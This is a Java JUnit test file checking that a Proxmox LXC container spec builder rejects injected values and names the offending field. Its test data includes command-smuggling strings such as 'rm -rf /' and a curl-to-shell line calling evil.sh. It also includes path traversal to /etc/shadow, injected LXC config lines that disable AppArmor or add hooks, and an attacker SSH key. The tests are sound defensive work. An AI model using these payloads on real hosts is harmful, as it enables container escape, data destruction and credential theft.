package io.github.proxmoxlxc.core.spec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Values that would change the meaning of a property string, a config line or a shell command are
 * rejected (never escaped), and the error names the field.
 */
class InjectionTest {
    static Stream<Arguments> injections() {
        return Stream.of(
                inject("net0.bridge", b -> b.network(0, NetworkInterface.builder("eth0").bridge("vmbr0,firewall=1").build())),
                inject("net0.bridge", b -> b.network(0, NetworkInterface.builder("eth0").bridge("vmbr0\nlxc.apparmor.profile:"
                        + " unconfined").build())),
                inject("net0.bridge", b -> b.network(0, NetworkInterface.builder("eth0").bridge("vmbr0;rm -rf /").build())),
                inject("net0.name", b -> b.network(0, NetworkInterface.builder().name("eth0=x").build())),
                inject("net0.name", b -> b.network(0, NetworkInterface.builder().name("$(reboot)").build())),
                inject("net0.hwaddr", b -> b.network(0, NetworkInterface.builder("eth0").macAddress("BC:24:11:00:00:01,tag=5")
                        .build())),
                inject("net0.ip", b -> b.network(0, NetworkInterface.builder("eth0").ip("10.0.0.2/24,gw=10.0.0.1").build())),
                inject("tags", b -> b.addTag("web;admin")),
                inject("tags", b -> b.addTag("a,b")),
                inject("tags", b -> b.addTag("`id`")),
                inject("hostname", b -> b.hostname("host;reboot")),
                inject("hostname", b -> b.hostname("$(curl evil.sh|sh)")),
                inject("dev0.path", b -> b.device(0, DeviceEntry.builder().path("/dev/../etc/shadow").build())),
                inject("dev0.path", b -> b.device(0, DeviceEntry.builder().path("/dev/null,mode=0777").build())),
                inject("dev0.path", b -> b.device(0, DeviceEntry.builder().path("/etc/passwd").build())),
                inject("dev0.path", b -> b.device(0, DeviceEntry.builder().path("/dev/./sda").build())),
                inject("dev0.mode", b -> b.device(0, DeviceEntry.builder().path("/dev/null").mode("0660,uid=0")
                        .build())),
                inject("mp0.mp", b -> b.mountPoint(0, MountPoint.builder().volume("local:8").path("/data/../../etc")
                        .build())),
                inject("mp0.mp", b -> b.mountPoint(0, MountPoint.builder().volume("local:8").path("/data,ro=0")
                        .build())),
                inject("mp0.volume", b -> b.mountPoint(0, MountPoint.builder().volume("/srv/../root").path("/r")
                        .build())),
                inject("mp0.volume", b -> b.mountPoint(0, MountPoint.builder().volume("mp=/x").path("/r").build())),
                inject("mp0.volume", b -> b.mountPoint(0, MountPoint.builder().volume("../etc").path("/r").build())),
                inject("rootfs.volume", b -> b.rootFs(RootFs.builder().volume("local-lvm:8\nlxc.cap.drop:").build())),
                inject("rootfs.mountoptions", b -> b.rootFs(RootFs.builder().volume("local-lvm:8")
                        .addMountOption("noatime;rw").build())),
                inject("rootfs.idmap", b -> b.rootFs(RootFs.builder().volume("local-lvm:8")
                        .idmap("passthrough,ro=0").build())),
                inject("mp0.idmap", b -> b.mountPoint(0, MountPoint.builder().volume("local:8").path("/d")
                        .idmap("u:0:0:1\nlxc.idmap: u 0 0 65536").build())),
                inject("mp0.idmap", b -> b.mountPoint(0, MountPoint.builder().volume("local:8").path("/d")
                        .idmap("u:0:0:1;$(reboot)").build())),
                inject("features.mount", b -> b.features(Features.builder().addMount("nfs;cifs,nesting=1").build())),
                inject("timezone", b -> b.timezone("../../etc/passwd")),
                inject("nameserver", b -> b.addNameserver("1.1.1.1 `id`")),
                inject("searchdomain", b -> b.addSearchDomain("lan;reboot")),
                inject("ssh-public-keys", b -> b.addSshPublicKey("ssh-ed25519 AAAA me\nssh-rsa AAAA attacker")),
                inject("env", b -> b.putEnvironment("A;B", "1")),
                inject("env.A", b -> b.putEnvironment("A", "1\0B=2")),
                inject("entrypoint", b -> b.entrypoint("/sbin/init\nlxc.hook.pre-start: /tmp/x")),
                inject("hookscript", b -> b.hookScript("local:snippets/../../../root/x.sh")),
                inject("ostemplate", b -> b.osTemplate("local:vztmpl/../../etc/shadow")),
                inject("startup.order", b -> b.startup(Startup.builder().order(-1).build())),
                inject("description", b -> b.description("text\0hidden")),
                inject("rawOption", b -> b.rawOption("lxc.apparmor.profile", "unconfined")),
                inject("lock", b -> b.rawOption("lock", "backup\nlxc.mount.entry: / mnt none bind")));
    }

    private static Arguments inject(String field, Consumer<ContainerSpec.Builder> change) {
        return Arguments.of(field, change);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("injections")
    void smuggledSeparatorsAreRejectedNamingTheField(String field, Consumer<ContainerSpec.Builder> change) {
        ContainerSpec.Builder b = ContainerSpec.builder().vmid(100).osTemplate("local:vztmpl/debian.tar.zst");
        change.accept(b);

        InvalidSpecException e = catchThrowableOfType(InvalidSpecException.class, b::build);

        assertThat(e).as("expected a rejection").isNotNull();
        assertThat(e.violations()).extracting(Violation::field).contains(field);
        assertThat(e.getMessage()).contains(field);
    }
}
